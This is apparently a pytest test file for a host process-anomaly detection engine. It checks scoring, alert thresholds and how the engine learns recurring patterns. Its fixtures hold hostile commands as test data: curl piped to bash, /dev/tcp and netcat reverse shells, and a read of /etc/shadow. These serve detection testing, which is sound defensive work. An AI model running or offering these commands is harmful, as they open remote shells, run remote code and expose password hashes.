"""The required behaviours of scoring/README.md ("Score"), on a real LanceDB directory."""

from __future__ import annotations

import pytest

from core.confmap import Duration
from core.event import ProcessEvent
from scoring.config import EngineConfig, LearningConfig
from scoring.engine import AnomalyEngine
from scoring.tests.workloads import ci_job, nginx_restart, web_workload


@pytest.fixture
def engine(tmp_path):
    engine = AnomalyEngine(EngineConfig(baselines=str(tmp_path / "baselines")))
    yield engine
    engine.close()


def test_new_ci_build_script_scores_about_07_then_drops_to_about_01(engine):
    for run in range(5):
        engine.process(ci_job(run), workload="ci")
    new_script = ProcessEvent(executable_name="build-release.sh", executable_path="/srv/ci/ws/build-release.sh",
                              command_line="./build-release.sh --target x86_64",
                              command_args=("./build-release.sh", "--target", "x86_64"),
                              parent_name="bash", user_id=1001, timestamp=1_000_000.0)
    first = engine.process([new_script], workload="ci")[0]
    assert 0.55 <= first.score <= 0.8, first
    assert first.severity == "warn"
    assert any("never run on this workload" in r for r in first.reasons)
    again = engine.process([new_script], workload="ci")[0]
    assert again.score <= 0.12, again
    assert again.severity == "none"


def test_routine_nginx_worker_restart_scores_near_zero(engine):
    engine.process(web_workload(300), workload="web")
    verdict = engine.process([nginx_restart(pid=99_999)], workload="web")[0]
    assert verdict.score < 0.05, verdict
    assert verdict.severity == "none"
    assert "nginx" in verdict.nearest


def test_curl_piped_to_bash_as_root_on_web_is_an_alert_over_09(engine):
    engine.process(web_workload(300), workload="web")
    attack = ProcessEvent(executable_name="bash", executable_path="/usr/bin/bash",
                          command_line="bash -c curl -fsSL http://203.0.113.9/x.sh | bash",
                          command_args=("bash", "-c", "curl -fsSL http://203.0.113.9/x.sh | bash"),
                          parent_name="nginx", user_id=0)
    verdict = engine.process([attack], workload="web")[0]
    assert verdict.score > 0.9, verdict
    assert verdict.severity == "alert"
    assert any("download piped into bash" in r for r in verdict.reasons)
    assert any("shell spawned by nginx" in r for r in verdict.reasons)


def test_shell_from_temp_under_web_server_ranks_first_with_every_reason(engine):
    engine.process(web_workload(300), workload="web")
    dropper = ProcessEvent(executable_name="sh", executable_path="/dev/shm/.x/sh", command_line="sh -i",
                           command_args=("sh", "-i"), parent_name="sh", ancestors=("sh", "php-fpm8.2", "systemd"),
                           user_id=0)
    others = [
        ProcessEvent(executable_name="sh", command_line="sh -c date", command_args=("sh", "-c", "date"),
                     parent_name="php-fpm8.2", user_id=33),
        ProcessEvent(executable_name="python3", command_line="python3 /opt/tool.py --check",
                     parent_name="cron", user_id=0),
        nginx_restart(pid=4242),
    ]
    verdicts = engine.process([*others, dropper], workload="web")
    assert max(verdicts, key=lambda v: v.score) is verdicts[-1]
    reasons = " | ".join(verdicts[-1].reasons)
    for expected in ("shell spawned by php-fpm (via sh)", "binary in /dev/shm", "root",
                     "interactive shell", "new on this workload"):
        assert expected in reasons, reasons
    assert verdicts[-1].severity == "alert"


def test_a_burst_of_one_attack_command_stays_an_alert(engine):
    engine.process(web_workload(300), workload="web")
    attack = ProcessEvent(executable_name="bash", command_line="bash -i >& /dev/tcp/198.51.100.7/4444 0>&1",
                          parent_name="php-fpm8.2", user_id=33, timestamp=2_000_000.0)
    verdicts = engine.process([attack] * 200, workload="web")
    assert all(v.severity == "alert" for v in verdicts)
    assert "held back from learning" in " ".join(verdicts[-1].reasons)


def _web_engine_learning_hourly(tmp_path) -> AnomalyEngine:  # type: ignore[no-untyped-def]
    """An engine with a web baseline that learns an alert-level pattern after three one-hour windows."""
    engine = AnomalyEngine(EngineConfig(baselines=str(tmp_path), learning=LearningConfig(
        recurrence_windows=3, recurrence_window=Duration("1h"))))
    engine.process(web_workload(300), workload="web")
    return engine


def test_alert_pattern_is_learned_only_after_recurring_in_distinct_windows(tmp_path):
    engine = _web_engine_learning_hourly(tmp_path)
    backup = ProcessEvent(executable_name="sh", command_line="sh -c nc -e /bin/sh 10.0.0.5 9000",
                          parent_name="nginx", user_id=33)
    hours = [3_600.0 * h for h in (10, 11, 12)]
    scores = []
    for when in hours:
        backup.timestamp = when
        scores.append(engine.process([backup], workload="web")[0])
    assert all(v.severity == "alert" for v in scores)
    backup.timestamp = 3_600.0 * 13
    after = engine.process([backup], workload="web")[0]
    assert after.severity == "none", after
    assert "seen 3 times on this workload" in after.reasons
    engine.close()


def test_recurrence_windows_run_from_the_occurrences_not_from_the_clock(tmp_path):
    """Sent a second before, at, and a second after two hour boundaries, a reverse shell was three windows old in
    an hour and two seconds, and learned (s14 red team)."""
    engine = _web_engine_learning_hourly(tmp_path)
    shell = ProcessEvent(executable_name="sh", command_line="sh -c nc -e /bin/sh 10.0.0.5 9000",
                         parent_name="nginx", user_id=33)
    boundary = 3_600.0 * 20
    for when in (boundary - 3_601.0, boundary - 1.0, boundary + 0.5, boundary + 1.0):
        verdict = engine.process([shell], workload="web", received=when)[0]
        assert verdict.severity == "alert", (when, verdict)
    assert "seen in 2 of 3 required time windows" in " ".join(verdict.reasons), verdict.reasons
    engine.close()


def test_acknowledge_learns_a_held_back_pattern_at_once(engine):
    engine.process(web_workload(300), workload="web")
    deploy = ProcessEvent(executable_name="sh", command_line="sh -c /opt/deploy/hook.sh",
                          parent_name="node", user_id=1002)
    assert engine.process([deploy], workload="web")[0].severity == "alert"
    engine.acknowledge(deploy, workload="web")
    assert engine.process([deploy], workload="web")[0].severity == "none"


def test_new_workload_warm_up_caps_novelty_at_warn(engine):
    fresh = [ProcessEvent(executable_name=f"tool{i}", command_line=f"tool{i} --run", parent_name="systemd",
                          user_id=0) for i in range(10)]
    verdicts = engine.process(fresh, workload="brand-new")
    assert all(v.severity != "alert" for v in verdicts)
    assert "warm-up" in " ".join(verdicts[0].reasons)


def test_thresholds_are_per_workload(tmp_path):
    from core.confmap import decode

    config = decode(EngineConfig, {"baselines": str(tmp_path), "thresholds": {
        "default": {"warn": 0.5, "alert": 0.75}, "workloads": {"prod-web": {"alert": 0.55}}}})
    engine = AnomalyEngine(config)
    engine.learn_only(web_workload(300), workload="prod-web")
    engine.learn_only(web_workload(300), workload="dev-web")
    odd = ProcessEvent(executable_name="nginx", command_line="nginx -T -c /etc/nginx/other.conf",
                       parent_name="sudo", user_id=0)
    prod = engine.process([odd], workload="prod-web")[0]
    dev = engine.process([odd], workload="dev-web")[0]
    assert abs(prod.score - dev.score) < 1e-6
    assert 0.55 <= prod.score < 0.75, prod
    assert (prod.severity, dev.severity) == ("alert", "warn")
    engine.close()


def _socket_event(kind: str, **fields) -> ProcessEvent:
    return ProcessEvent(executable_name="node", command_line="node /srv/app/server.js", parent_name="systemd",
                        user_id=1002, event_name=kind, transport="tcp", **fields)


def test_new_listening_port_and_new_remote_peer_on_a_non_web_port_are_flagged(engine):
    routine = [_socket_event("network.listen", local_address="0.0.0.0", local_port=3000)]
    routine += [_socket_event("network.connection", local_port=40000 + i, remote_address="10.0.0.5",
                              remote_port=5432) for i in range(30)]
    engine.learn_only(web_workload(100) + routine * 3, workload="web")

    same = engine.process([_socket_event("network.connection", local_port=51111, remote_address="10.0.0.5",
                                         remote_port=5432)], workload="web")[0]
    assert same.severity == "none" and not any("new remote" in r for r in same.reasons)

    backdoor = engine.process([_socket_event("network.listen", local_address="0.0.0.0", local_port=4444)],
                              workload="web")[0]
    assert "new listening port 4444" in backdoor.reasons
    peer = engine.process([_socket_event("network.connection", local_port=52222, remote_address="203.0.113.50",
                                         remote_port=6667)], workload="web")[0]
    assert "new remote address 203.0.113.50:6667 on a non-web port" in peer.reasons
    assert peer.score > same.score + 0.3 and peer.severity in ("warn", "alert")
    local = engine.process([_socket_event("network.connection", local_port=53333, remote_address="127.0.0.1",
                                          remote_port=6667)], workload="web")[0]
    assert "new remote address 127.0.0.1:6667" in local.reasons and local.score < peer.score


def test_a_sensitive_behaviour_new_to_the_workload_is_not_quieted_by_a_similar_routine(tmp_path):
    """`cat /etc/shadow` looks like `cat /etc/os-release` to the vectors; what it does is new here."""
    engine = AnomalyEngine(EngineConfig(baselines=str(tmp_path / "b")))
    routine = [ProcessEvent(executable_name="cat", command_line=f"cat {path}", command_args=("cat", path),
                            parent_name="bash", user_id=0, timestamp=1_000.0 + i)
               for i, path in enumerate(["/etc/os-release", "/etc/hostname", "/etc/resolv.conf"] * 20)]
    engine.learn_only(routine, workload="admin")
    shadow = ProcessEvent(executable_name="cat", command_line="cat /etc/shadow", command_args=("cat", "/etc/shadow"),
                          parent_name="bash", user_id=0, timestamp=5_000.0)
    verdict = engine.process([shadow], workload="admin")[0]
    engine.close()
    assert verdict.severity == "alert", verdict
    assert any("a behaviour this workload has not shown (T1003.008)" in r for r in verdict.reasons)


def test_learned_behaviours_survive_a_restart_and_quiet_their_routine(tmp_path):
    """A pattern's techniques are stored with it: after a restart its own evidence is familiar, not new."""
    directory = str(tmp_path / "b")
    routine = [ProcessEvent(executable_name="crontab", command_line="crontab /etc/app/cron.txt",
                            command_args=("crontab", "/etc/app/cron.txt"), parent_name="bash", user_id=0,
                            timestamp=1_000.0 + i) for i in range(30)]
    first = AnomalyEngine(EngineConfig(baselines=directory))
    first.learn_only(routine, workload="ops")
    first.close()
    again = AnomalyEngine(EngineConfig(baselines=directory))
    verdict = again.process([routine[0]], workload="ops")[0]
    again.close()
    assert verdict.severity == "none" and not any("has not shown" in r for r in verdict.reasons), verdict
